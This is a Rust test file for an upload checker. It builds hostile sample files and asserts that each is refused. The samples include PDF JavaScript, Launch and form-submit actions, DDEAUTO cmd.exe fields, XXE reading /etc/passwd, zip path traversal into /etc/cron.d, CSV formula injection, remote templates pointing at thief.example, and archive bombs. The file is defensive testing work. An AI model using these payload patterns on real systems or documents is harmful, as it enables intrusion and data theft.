//! Files that mean harm, or are not what they say, and why each is refused.

use soundingboard::platform::files::{Danger, FileKind, MOST_BYTES, Refusal, recognise};

use crate::support::sample_files::{
    WORD, docx, good, jpeg, jpeg_segment, odt, office, packed_objects, pdf, png, png_chunk,
    relations, replaced, xlsx, zip,
};

pub struct Hostile {
    pub name: &'static str,
    pub make: fn() -> Vec<u8>,
    pub refusal: Refusal,
}

const fn hostile(name: &'static str, make: fn() -> Vec<u8>, refusal: Refusal) -> Hostile {
    Hostile {
        name,
        make,
        refusal,
    }
}

const fn dangerous(kind: FileKind, danger: Danger) -> Refusal {
    Refusal::Dangerous { kind, danger }
}

const PROGRAM: &[u8] = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0PE\0\0";
const EXTERNAL: &str = r#"TargetMode="External""#;

pub const HOSTILE: &[Hostile] = &[
    hostile("nothing.pdf", Vec::new, Refusal::Empty),
    hostile("huge.pdf", || vec![b'%'; MOST_BYTES + 1], Refusal::TooLarge),
    hostile("program.pdf", || PROGRAM.to_vec(), Refusal::Program),
    hostile(
        "program.csv",
        || b"\x7fELF\x02\x01\x01\0".to_vec(),
        Refusal::Program,
    ),
    hostile(
        "script.csv",
        || b"#!/bin/sh\nrm,-rf\n".to_vec(),
        Refusal::Program,
    ),
    hostile(
        "noise.pdf",
        || (0..4_000u32).map(noise).collect(),
        Refusal::Unknown,
    ),
    // PDF
    hostile(
        "cut-short.pdf",
        || pdf("")[..200].to_vec(),
        Refusal::Damaged(FileKind::Pdf),
    ),
    hostile(
        "header-only.pdf",
        || b"%PDF-1.4\n%%EOF".to_vec(),
        Refusal::Damaged(FileKind::Pdf),
    ),
    hostile(
        "program-behind.pdf",
        || [pdf(""), PROGRAM.to_vec()].concat(),
        Refusal::TrailingData(FileKind::Pdf),
    ),
    hostile(
        "archive-behind.pdf",
        || [pdf(""), zip(&[("evil.js", b"alert(1)")])].concat(),
        Refusal::TrailingData(FileKind::Pdf),
    ),
    hostile(
        "archive-within.pdf",
        || with_archive_ending(b"%PDF-1.7\n", b"\nstartxref\n9\n%%EOF\n"),
        Refusal::TwoInOne(FileKind::Pdf),
    ),
    hostile(
        "script.pdf",
        || pdf("4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"),
        dangerous(FileKind::Pdf, Danger::Macro),
    ),
    hostile(
        "script-in-disguise.pdf",
        || pdf("4 0 obj\n<</S/J#61vaScr#69pt/JS(app.alert(1))>>\nendobj\n"),
        dangerous(FileKind::Pdf, Danger::Macro),
    ),
    hostile(
        "script-packed.pdf",
        || {
            pdf(packed_objects(
                b"4 0 << /S /JavaScript /JS (app.alert(1)) >>",
            ))
        },
        dangerous(FileKind::Pdf, Danger::Macro),
    ),
    hostile(
        "script-in-what-looks-like-a-stream.pdf",
        || pdf("% stream\n4 0 obj\n<< /S /JavaScript >>\nendobj\n% endstream\n"),
        dangerous(FileKind::Pdf, Danger::Macro),
    ),
    hostile(
        "launch.pdf",
        || pdf("4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"),
        dangerous(FileKind::Pdf, Danger::Launch),
    ),
    hostile(
        "file-inside.pdf",
        || pdf("4 0 obj\n<< /Type /EmbeddedFile >>\nstream\nMZ\nendstream\nendobj\n"),
        dangerous(FileKind::Pdf, Danger::EmbeddedFile),
    ),
    hostile(
        "sending-form.pdf",
        || pdf("4 0 obj\n<< /S /SubmitForm /F (https://thief.example/) >>\nendobj\n"),
        dangerous(FileKind::Pdf, Danger::SendingForm),
    ),
    hostile(
        "password.pdf",
        || pdf("4 0 obj\n<< /Encrypt 5 0 R >>\nendobj\n"),
        Refusal::Protected(FileKind::Pdf),
    ),
    hostile(
        "objects-nobody-can-unpack.pdf",
        || pdf("5 0 obj\n<< /Type /ObjStm /Filter /Odd >>\nstream\nodd\nendstream\nendobj\n"),
        Refusal::Damaged(FileKind::Pdf),
    ),
    hostile(
        "bomb.pdf",
        || pdf(packed_objects(&vec![b' '; 33_000_000])),
        Refusal::Bomb(FileKind::Pdf),
    ),
    hostile(
        "page-that-is-also-a.pdf",
        || [b"<html><script>1</script>\n".to_vec(), pdf("")].concat(),
        Refusal::WebPage,
    ),
    // Pictures
    hostile(
        "drawing.png",
        || b"<svg xmlns=\"s\"><script/></svg>".to_vec(),
        Refusal::WebPage,
    ),
    hostile(
        "page.png",
        || b"\n <!DOCTYPE html><p>a,b\n".to_vec(),
        Refusal::WebPage,
    ),
    hostile(
        "animation.png",
        || b"GIF89a\x01\0\x01\0".to_vec(),
        Refusal::OtherPicture,
    ),
    hostile("endless.png", || png(60_000, 60_000), Refusal::TooManyDots),
    hostile("flat.png", || png(0, 4), Refusal::Damaged(FileKind::Png)),
    hostile(
        "cut-short.png",
        || png(2, 2)[..50].to_vec(),
        Refusal::Damaged(FileKind::Png),
    ),
    hostile(
        "longer-than-itself.png",
        || replaced(&png(2, 2), b"\0\0\0\0IEND", b"\x7f\xff\xff\xffIEND"),
        Refusal::Damaged(FileKind::Png),
    ),
    hostile(
        "odd-chunk.png",
        || replaced(&png(2, 2), b"IDAT", b"EVIL"),
        Refusal::Damaged(FileKind::Png),
    ),
    hostile(
        "archive-behind.png",
        || [png(2, 2), zip(&[("evil.js", b"1")])].concat(),
        Refusal::TrailingData(FileKind::Png),
    ),
    hostile(
        "archive-within.png",
        || {
            let end = png_chunk(*b"IEND", b"");
            let start = png(2, 2);
            let start = start[..start.len() - end.len()].to_vec();
            // The archive is a text chunk, as far as the picture goes.
            let archive = with_archive_ending(b"", &[b"sum!", &end[..]].concat());
            let length = u32::try_from(archive.len() - end.len() - 4).unwrap();
            [
                start,
                length.to_be_bytes().to_vec(),
                b"teXt".to_vec(),
                archive,
            ]
            .concat()
        },
        Refusal::TwoInOne(FileKind::Png),
    ),
    hostile(
        "jar-behind.jpeg",
        || {
            [
                jpeg(&[]),
                zip(&[("META-INF/MANIFEST.MF", b"Main-Class: Evil")]),
            ]
            .concat()
        },
        Refusal::TrailingData(FileKind::Jpeg),
    ),
    hostile(
        "page-behind.jpeg",
        || [jpeg(&[]), b"<script>alert(1)</script>".to_vec()].concat(),
        Refusal::TrailingData(FileKind::Jpeg),
    ),
    hostile(
        "cut-short.jpeg",
        || {
            let whole = jpeg(&[]);
            whole[..whole.len() - 2].to_vec()
        },
        Refusal::Damaged(FileKind::Jpeg),
    ),
    hostile(
        "without-picture.jpeg",
        || {
            [
                b"\xff\xd8".to_vec(),
                jpeg_segment(0xfe, b"<?php"),
                b"\xff\xd9".to_vec(),
            ]
            .concat()
        },
        Refusal::Damaged(FileKind::Jpeg),
    ),
    // Word and Excel
    hostile(
        "macro.docx",
        || docx(&[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")]),
        dangerous(FileKind::Docx, Danger::Macro),
    ),
    hostile(
        "macro-by-type.docx",
        || {
            office(
                "word/document.xml",
                "application/vnd.ms-word.document.macroEnabled.main+xml",
                &[],
            )
        },
        dangerous(FileKind::Docx, Danger::Macro),
    ),
    hostile(
        "macro-sheet.xlsx",
        || xlsx(&[("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>")]),
        dangerous(FileKind::Xlsx, Danger::Macro),
    ),
    hostile(
        "control.docx",
        || docx(&[("word/activeX/activeX1.bin", b"\0\0")]),
        dangerous(FileKind::Docx, Danger::Macro),
    ),
    hostile(
        "template-from-elsewhere.docx",
        || with_relation("attachedTemplate", "https://thief.example/t.dotm"),
        dangerous(FileKind::Docx, Danger::RemoteContent),
    ),
    hostile(
        "template-from-a-share.docx",
        || with_relation("attachedTemplate", r"file:///\\thief.example\t.dotm"),
        dangerous(FileKind::Docx, Danger::RemoteContent),
    ),
    hostile(
        "picture-from-elsewhere.docx",
        || with_relation("image", "https://thief.example/seen.png"),
        dangerous(FileKind::Docx, Danger::RemoteContent),
    ),
    hostile(
        "relation-in-disguise.docx",
        || {
            let hidden = relations(&[(
                "image",
                "https://thief.example/",
                r#"TargetMode="&#69;xternal""#,
            )]);
            docx(&[("word/_rels/document.xml.rels", hidden.as_bytes())])
        },
        dangerous(FileKind::Docx, Danger::RemoteContent),
    ),
    hostile(
        "relations-in-wide-letters.docx",
        || {
            let hidden = relations(&[("image", "https://thief.example/", EXTERNAL)]);
            let wide: Vec<u8> = hidden.bytes().flat_map(|byte| [byte, 0]).collect();
            docx(&[(
                "word/_rels/document.xml.rels",
                &[b"\xff\xfe", &wide[..]].concat(),
            )])
        },
        Refusal::Damaged(FileKind::Docx),
    ),
    hostile(
        "linked-workbook.xlsx",
        || {
            let link = relations(&[("externalLinkPath", r"\\thief.example\a.xlsx", EXTERNAL)]);
            xlsx(&[(
                "xl/externalLinks/_rels/externalLink1.xml.rels",
                link.as_bytes(),
            )])
        },
        dangerous(FileKind::Xlsx, Danger::RemoteContent),
    ),
    hostile(
        "object-inside.docx",
        || {
            docx(&[(
                "word/embeddings/oleObject1.bin",
                b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
            )])
        },
        dangerous(FileKind::Docx, Danger::EmbeddedFile),
    ),
    hostile(
        "macro-in-a-chart.docx",
        || {
            docx(&[(
                "word/embeddings/chart.xlsx",
                &xlsx(&[("xl/vbaProject.bin", b"\0")]),
            )])
        },
        dangerous(FileKind::Docx, Danger::EmbeddedFile),
    ),
    hostile(
        "program-inside.docx",
        || docx(&[("word/media/image1.png", PROGRAM)]),
        dangerous(FileKind::Docx, Danger::EmbeddedFile),
    ),
    hostile(
        "field-that-runs.docx",
        || {
            docx(&[(
                "word/header1.xml",
                b"<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>",
            )])
        },
        dangerous(FileKind::Docx, Danger::Launch),
    ),
    hostile(
        "entities.docx",
        || {
            docx(&[(
                "word/footer1.xml",
                b"<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
            )])
        },
        Refusal::Damaged(FileKind::Docx),
    ),
    hostile(
        "bomb.docx",
        || docx(&[("word/media/image1.bmp", &vec![0; 3_000_000])]),
        Refusal::Bomb(FileKind::Docx),
    ),
    hostile(
        "bomb-in-pieces.xlsx",
        || {
            let names: Vec<_> = (0..120).map(|i| format!("xl/media/{i}.bmp")).collect();
            let parts: Vec<_> = names
                .iter()
                .map(|name| (name.as_str(), &[b' '; 901][..]))
                .collect();
            // Only said to be so large, which is enough.
            let said = 900_001_u32.to_le_bytes();
            replaced(&xlsx(&parts), &901_u32.to_le_bytes(), &said)
        },
        Refusal::Bomb(FileKind::Xlsx),
    ),
    hostile(
        "bomb-that-lies.docx",
        lying_about_size,
        Refusal::Damaged(FileKind::Docx),
    ),
    hostile(
        "thousands-of-parts.docx",
        || {
            let names: Vec<_> = (0..2_100).map(|i| format!("word/media/{i}")).collect();
            let parts: Vec<_> = names.iter().map(|name| (name.as_str(), &b""[..])).collect();
            docx(&parts)
        },
        Refusal::Bomb(FileKind::Docx),
    ),
    hostile(
        "way-out.docx",
        || docx(&[("word/../../../etc/cron.d/evil", b"* * * * *")]),
        Refusal::Damaged(FileKind::Docx),
    ),
    hostile(
        "from-the-root.docx",
        || docx(&[("/etc/cron.d/evil", b"* * * * *")]),
        Refusal::Damaged(FileKind::Docx),
    ),
    hostile(
        "same-part-twice.docx",
        || {
            replaced(
                &docx(&[("word/document.xmX", b"<other/>")]),
                b"document.xmX",
                b"document.xml",
            )
        },
        Refusal::Damaged(FileKind::Docx),
    ),
    hostile(
        "password.docx",
        with_password,
        Refusal::Protected(FileKind::Docx),
    ),
    hostile(
        "program-behind.docx",
        || [docx(&[]), PROGRAM.to_vec()].concat(),
        Refusal::TrailingData(FileKind::Docx),
    ),
    hostile(
        "program-before.docx",
        || [PROGRAM, &docx(&[])].concat(),
        Refusal::Program,
    ),
    hostile(
        "archive.docx",
        || zip(&[("evil.exe", PROGRAM)]),
        Refusal::Packed,
    ),
    hostile(
        "without-text.docx",
        || {
            let types =
                format!(r#"<Types><Override PartName="/gone.xml" ContentType="{WORD}"/></Types>"#);
            zip(&[("[Content_Types].xml", types.as_bytes())])
        },
        Refusal::Damaged(FileKind::Docx),
    ),
    hostile(
        "presentation.docx",
        || {
            let slides = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml";
            office("ppt/presentation.xml", slides, &[])
        },
        Refusal::OtherOffice,
    ),
    hostile(
        "old.docx",
        || [&b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"[..], &[0; 600]].concat(),
        Refusal::OldOffice,
    ),
    // OpenDocument
    hostile(
        "macro.odt",
        || odt(&[("Basic/Standard/Module1.xml", b"<script/>")]),
        dangerous(FileKind::Odt, Danger::Macro),
    ),
    hostile(
        "listener.odt",
        || {
            odt(&[(
                "content.xml",
                b"<o><script:event-listener script:language=\"ooo:script\"/></o>",
            )])
        },
        dangerous(FileKind::Odt, Danger::Macro),
    ),
    hostile(
        "picture-from-elsewhere.odt",
        || {
            odt(&[(
                "content.xml",
                b"<o><draw:image xlink:href=\"https://thief.example/\"/></o>",
            )])
        },
        dangerous(FileKind::Odt, Danger::RemoteContent),
    ),
    hostile(
        "password.odt",
        || {
            odt(&[(
                "META-INF/manifest.xml",
                b"<m><manifest:encryption-data/></m>",
            )])
        },
        Refusal::Protected(FileKind::Odt),
    ),
    hostile(
        "entities.odt",
        || odt(&[("content.xml", b"<!DOCTYPE x [<!ENTITY a 'a'>]><x>&a;</x>")]),
        Refusal::Damaged(FileKind::Odt),
    ),
    hostile(
        "sheet.odt",
        || {
            odt(&[(
                "mimetype",
                b"application/vnd.oasis.opendocument.spreadsheet",
            )])
        },
        Refusal::OtherOffice,
    ),
    // CSV
    hostile(
        "page.csv",
        || b"a,b\n1,<script src=//thief.example></script>\n".to_vec(),
        Refusal::WebPage,
    ),
    hostile(
        "server-page.csv",
        || b"a,b\n1,<?php system(1); ?>\n".to_vec(),
        Refusal::WebPage,
    ),
    hostile(
        "formula.csv",
        || b"name,link\nOne,\"=HYPERLINK(\"\"https://thief.example/\"\")\"\n".to_vec(),
        dangerous(FileKind::Csv, Danger::Formula),
    ),
    hostile(
        "command.csv",
        || b"name,sum\nOne,-cmd|' /C calc'!A0\n".to_vec(),
        dangerous(FileKind::Csv, Danger::Formula),
    ),
    hostile("zeros.csv", || b"a,b\n1,\0\n".to_vec(), Refusal::Unknown),
    hostile(
        "wide.csv",
        || b"\xff\xfea\0,\0b\0\n\0".to_vec(),
        Refusal::OddText,
    ),
    hostile(
        "letter.csv",
        || b"Dear all\nwe are well\n".to_vec(),
        Refusal::NotATable,
    ),
];

/// The same each time, and like nothing.
fn noise(i: u32) -> u8 {
    i.wrapping_mul(2_654_435_761).rotate_left(13).to_be_bytes()[0] | 1
}

/// An archive between a start and an end that is the archive's comment: readers of archives find their record before it.
fn with_archive_ending(start: &[u8], end: &[u8]) -> Vec<u8> {
    let archive = zip(&[("evil.js", b"alert(1)")]);
    let comment = u16::try_from(end.len()).unwrap().to_le_bytes();
    [start, &archive[..archive.len() - 2], &comment, end].concat()
}

fn with_relation(of: &str, target: &str) -> Vec<u8> {
    let relations = relations(&[(of, target, EXTERNAL)]);
    docx(&[("word/_rels/settings.xml.rels", relations.as_bytes())])
}

/// Says of a part of 300 KB that it has 77 bytes, both before the part and in the directory.
fn lying_about_size() -> Vec<u8> {
    let real = 300_001_u32;
    let honest = docx(&[("word/media/image1.bmp", &vec![0; real.try_into().unwrap()])]);
    replaced(&honest, &real.to_le_bytes(), &77_u32.to_le_bytes())
}

/// With the mark of a password on every part, in the directory and before each.
fn with_password() -> Vec<u8> {
    let mut bytes = docx(&[]);
    for (mark, flags) in [(b"PK\x03\x04", 6), (b"PK\x01\x02", 8)] {
        let found: Vec<_> = bytes
            .windows(4)
            .enumerate()
            .filter(|(_, four)| four == mark)
            .map(|(at, _)| at)
            .collect();
        for at in found {
            bytes[at + flags] |= 1;
        }
    }
    bytes
}

#[test]
fn each_hostile_file_is_refused_for_its_own_reason() {
    assert!(HOSTILE.len() >= 40);
    let mut faults = Vec::new();
    for Hostile {
        name,
        make,
        refusal,
    } in HOSTILE
    {
        let said = recognise(&make());
        if said != Err(*refusal) {
            faults.push(format!("{name}: {said:?}, not {refusal:?}"));
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

#[test]
fn a_good_file_of_each_kind_is_recognised_whatever_it_calls_itself() {
    for kind in FileKind::ALL {
        assert_eq!(recognise(&good(kind)), Ok(kind));
    }
}

#[test]
fn what_people_do_have_is_taken() {
    let second_picture = [jpeg(&[]), vec![0; 7], jpeg(&[])].concat();
    let chart = xlsx(&[]);
    let links = relations(&[
        ("hyperlink", "https://mentors.example/", EXTERNAL),
        (
            "attachedTemplate",
            r"file:///C:\Users\me\Normal.dotm",
            EXTERNAL,
        ),
    ]);
    let settings = links.as_bytes();
    let link = b"<o><text:a xlink:href=\"https://mentors.example/\">us</text:a></o>";
    for (what, kind, bytes) in [
        (
            "objects in packs",
            FileKind::Pdf,
            pdf(packed_objects(b"4 0 << /Type /Page >>")),
        ),
        (
            "blank lines at the end",
            FileKind::Pdf,
            [pdf(""), b"\r\n\r\n".to_vec()].concat(),
        ),
        ("a phone's second picture", FileKind::Jpeg, second_picture),
        (
            "a chart and links",
            FileKind::Docx,
            docx(&[
                ("word/embeddings/c.xlsx", &chart),
                ("word/_rels/settings.xml.rels", settings),
            ]),
        ),
        ("a link", FileKind::Odt, odt(&[("content.xml", link)])),
        (
            "Excel's CSV",
            FileKind::Csv,
            b"fee;place\r\n\xa340;Caf\xe9\r\n".to_vec(),
        ),
        (
            "tabs and a mark at the start",
            FileKind::Csv,
            "\u{feff}a\tb\n1\t2\n".into(),
        ),
        (
            "numbers and telephones",
            FileKind::Csv,
            b"sum,call\n-40,+44 (0)113 496 0000\n-,@us\n".to_vec(),
        ),
    ] {
        assert_eq!(recognise(&bytes), Ok(kind), "{what}");
    }
}
